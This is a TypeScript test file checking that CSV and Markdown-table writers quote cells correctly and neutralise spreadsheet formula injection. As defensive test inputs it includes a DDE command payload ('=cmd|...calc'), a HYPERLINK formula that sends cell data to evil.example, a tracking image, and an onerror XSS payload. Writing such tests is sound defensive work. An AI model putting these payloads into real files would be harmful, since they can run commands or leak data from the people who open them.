import { describe, expect, test } from 'vitest';
import { forms } from '#tools/workspace/report-lines.ts';
import { processorTime } from '../support/processor-time.ts';

const csv = (...cells: string[]) => forms.csv.line(cells);
const markdown = (...cells: string[]) => forms.markdown.line(cells);

/** Whether a spreadsheet would compute a cell, quoted or not. */
const isComputed = (cell: string) =>
  /^[\s\p{Cc}\p{Cf}"]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212\u207a-\u207c\u208a-\u208c]/u.test(
    cell,
  );

describe('a line of CSV, RFC 4180 §2', () => {
  test.for([
    [['a', 'b'], 'a,b\r\n'],
    [['', ''], ',\r\n'],
    [['a,b', 'c'], '"a,b",c\r\n'],
    [['say "yes"'], '"say ""yes"""\r\n'],
    [['one\ntwo', 'one\r\ntwo', 'one\rtwo'], '"one\ntwo","one\r\ntwo","one\rtwo"\r\n'],
    [['ä 漢 😀', 'a b'], 'ä 漢 😀,a b\r\n'],
  ] as const)('of %j is %j', ([cells, line]) => {
    expect(csv(...cells)).toBe(line);
  });

  test.for([
    '=1+1',
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '+1',
    '-1+1',
    '@SUM(A1)',
    ' =1',
    '\u00a0=1',
    '\tx',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    '\ufe661',
    '\ufe621',
    '\ufe631',
    '\ufe6bA1',
    '\u22121',
    '\u207c1',
    '\u208b1',
  ])('has no cell that a spreadsheet would compute: %j', (cell) => {
    expect(csv(cell)).toBe(`"'${cell.replaceAll('"', '""')}"\r\n`);
  });

  test.for([',', ';', '|', '\t', '\n', '\r', '\r\n', '; "', ';"\'', '|\u200b', ';\u0000', '\u2028', ';\u00a0'])(
    'nor a part of one that would be a cell, were %j its end',
    (separator) => {
      for (const formula of [
        '=1',
        '+1',
        '-1',
        '@A1',
        '\uff1d1',
        '\uff0b1',
        '\uff0d1',
        '\uff201',
        '\ufe661',
        '\u22121',
      ]) {
        for (const line of [csv(`a${separator}${formula}`), markdown(`a${separator}${formula}`)])
          expect(line.split(/[,;|\t\r\n\u2028]|<br>/).filter(isComputed)).toEqual([]);
        expect(csv(`a${separator}${formula}`)).toContain(`'${formula}`);
      }
    },
  );

  test('nor one that is as long as a text may be', () => {
    for (const part of ['\t', ' ', ';', '"', '\t ', '= '])
      expect(
        csv(part.repeat(1_000_000))
          .split(/[,;\t]/)
          .filter(isComputed),
      ).toEqual([]);
  });

  test.for(['a=1', '1-2', 'a@b.example', "it's", '2026-01-01'])('leaves %s as it is', (cell) => {
    expect(csv(cell)).toBe(`${cell}\r\n`);
  });
});

describe('a line of a Markdown table, GFM §4.10', () => {
  test('has a head that names the columns', () => {
    expect(forms.markdown.head(['a', 'b'])).toBe('| a | b |\n| --- | --- |\n');
  });

  test.for([
    ['a | b', 'a \\| b'],
    ['a \\| b', 'a \\\\\\| b'],
    ['one\ntwo\r\nthree\rfour\u2028five', 'one<br>two<br>three<br>four<br>five'],
    ['| x |\n| --- |', "\\| x \\|<br>\\| '--- \\|"],
    ['![x](https://evil.example/p.png)', '\\!\\[x\\](https://evil.example/p.png)'],
    ['<img src=x onerror=alert(1)>', '\\<img src=x onerror=alert(1)\\>'],
    ['`code` **bold** _it_ ~~no~~ &lt; $x$', '\\`code\\` \\*\\*bold\\*\\* \\_it\\_ \\~\\~no\\~\\~ \\&lt; \\$x\\$'],
    ['2026-01-01 ä 漢 😀', '2026-01-01 ä 漢 😀'],
  ] as const)('keeps %j in its cell, and shows it as it is', ([cell, shown]) => {
    expect(markdown(cell, 'next')).toBe(`| ${shown} | next |\n`);
  });
});

test.for(['"', ' ', '\u200b', ', ', '=', '= '])('a cell of many %j is written soon', (mark) => {
  expect(processorTime(() => csv(`a${mark.repeat(40_000)}`))).toBeLessThan(200);
});
